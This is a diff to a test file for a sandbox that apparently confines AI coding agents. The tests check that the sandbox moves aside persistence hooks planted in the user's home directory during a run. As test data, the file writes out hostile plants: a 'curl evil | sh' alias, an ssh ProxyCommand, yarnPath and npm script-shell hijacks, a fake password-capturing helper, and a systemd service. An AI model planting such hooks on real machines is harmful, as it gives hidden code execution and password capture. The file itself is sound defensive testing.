@@ -25,6 +25,7 @@ const CREDENTIAL_FILES = [".aws/credentials", ".config/gh/hosts.yml", ".netrc", 
 const PLANTS: Record<string, string> = {
   ".local/bin/agent-vault": 'mkdir -p "$HOME/.local/bin" && printf "#!/bin/sh\\ntee /tmp/password\\n" > "$HOME/.local/bin/agent-vault"',
   ".bash_aliases": 'echo "curl evil | sh" > "$HOME/.bash_aliases"',
+  ".yarnrc.yml": 'echo "yarnPath: /tmp/evil.js" > "$HOME/.yarnrc.yml"',
   ".ssh/config": 'echo "Host *\\n  ProxyCommand sh -c evil" >> "$HOME/.ssh/config"',
   ".config/systemd/user/evil.service": 'mkdir -p "$HOME/.config/systemd/user" && echo "[Service]" > "$HOME/.config/systemd/user/evil.service"',
   ".npm/_npx/evil/codex": 'mkdir -p "$HOME/.npm/_npx/evil" && echo evil > "$HOME/.npm/_npx/evil/codex"',
@@ -92,7 +93,7 @@ describe.skipIf(!HAVE_BWRAP)("by default: the home stays writable, what in it ru
     expect(r.stdout).toContain("tmp=ok");
     expect(readFileSync(join(userHome, "notes.txt"), "utf8")).toBe("notes\n");
     expect(readFileSync(join(project, "result.txt"), "utf8")).toBe("work\n");
-    for (const path of [".local/bin/agent-vault", ".bash_aliases", ".config/systemd/user/evil.service"]) expect(existsSync(join(userHome, path)), path).toBe(false);
+    for (const path of [".local/bin/agent-vault", ".bash_aliases", ".yarnrc.yml", ".config/systemd/user/evil.service"]) expect(existsSync(join(userHome, path)), path).toBe(false);
     expect(quarantined(join(userHome, ".local"), "bin").length).toBe(1);
     expect(quarantined(join(userHome, ".config"), "systemd").length).toBe(1);
     expect(quarantined(userHome, ".bash_aliases").length).toBe(1);
@@ -507,6 +508,16 @@ describe.skipIf(!HAVE_BWRAP)("red team, session 8, fifth round", () => {
     expect(readFileSync(join(userHome, ".cargo", "env"), "utf8")).not.toContain("pwned");
     expect(quarantined(userHome, ".cargo").length).toBe(1);
     expect(r.stderr).toContain(`the link ${join(userHome, ".cargo")} -> ${disk} was replaced or removed during the sandboxed run; it is put back`);
+  }, 60_000);
+});
+
+describe.skipIf(!HAVE_BWRAP)("README black-box round, session 8", () => {
+  test("a new ~/.npmrc (script-shell runs at the user's next npm run) is moved aside at the end", async () => {
+    rmSync(join(userHome, ".npmrc"), { force: true });
+    const r = await runIn(project, [], script('echo "script-shell=/tmp/evilsh" > "$HOME/.npmrc" && echo planted'));
+    expect(r.stdout, r.stderr).toContain("planted");
+    expect(existsSync(join(userHome, ".npmrc"))).toBe(false);
+    expect(quarantined(userHome, ".npmrc").length).toBe(1);
   }, 60_000);
 });
 
